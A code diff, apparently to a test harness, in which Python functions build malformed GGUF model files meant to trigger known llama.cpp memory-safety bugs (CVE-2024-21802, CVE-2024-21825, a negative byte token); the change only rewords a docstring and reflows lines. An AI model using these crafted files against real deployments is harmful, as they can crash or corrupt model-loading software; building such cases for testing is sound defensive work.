@@ -19,7 +19,7 @@ EXECUTED = "executed-by-a-template"  # the file that the template of CVE-2024-34
 
 
 def cve_2024_21802(folder: Path) -> Path:
-    """llama.cpp, ``info->ne``: a tensor of more than four dimensions, read into an array of four."""
+    """llama.cpp, ``info->ne``: a tensor of 4096 dimensions, read into an array of four."""
     builder = small()
     builder.tensors[1].dims = (1,) * 4096
     return builder.write(folder / "m.gguf")
@@ -28,7 +28,9 @@ def cve_2024_21802(folder: Path) -> Path:
 def cve_2024_21825(folder: Path) -> Path:
     """llama.cpp, arrays of strings: count times 16 bytes wraps to a small allocation."""
     builder = small()
-    replace_key(builder, "tokenizer.ggml.tokens", g.ARRAY, Array(g.STRING, PIECES, length=2**60 + 8))
+    replace_key(
+        builder, "tokenizer.ggml.tokens", g.ARRAY, Array(g.STRING, PIECES, length=2**60 + 8)
+    )
     return builder.write(folder / "m.gguf")
 
 
@@ -131,7 +133,9 @@ def negative_byte_token(folder: Path) -> Path:
     """The byte token ``<0x-1>``, which is read as a negative index."""
     types = [2, 3, 3, 1, 1, 1, 1, 6]
     builder = small()
-    replace_key(builder, "tokenizer.ggml.tokens", g.ARRAY, Array(g.STRING, [*PIECES[:-1], "<0x-1>"]))
+    replace_key(
+        builder, "tokenizer.ggml.tokens", g.ARRAY, Array(g.STRING, [*PIECES[:-1], "<0x-1>"])
+    )
     replace_key(builder, "tokenizer.ggml.token_type", g.ARRAY, Array(g.I32, types))
     return builder.write(folder / "m.gguf")
 
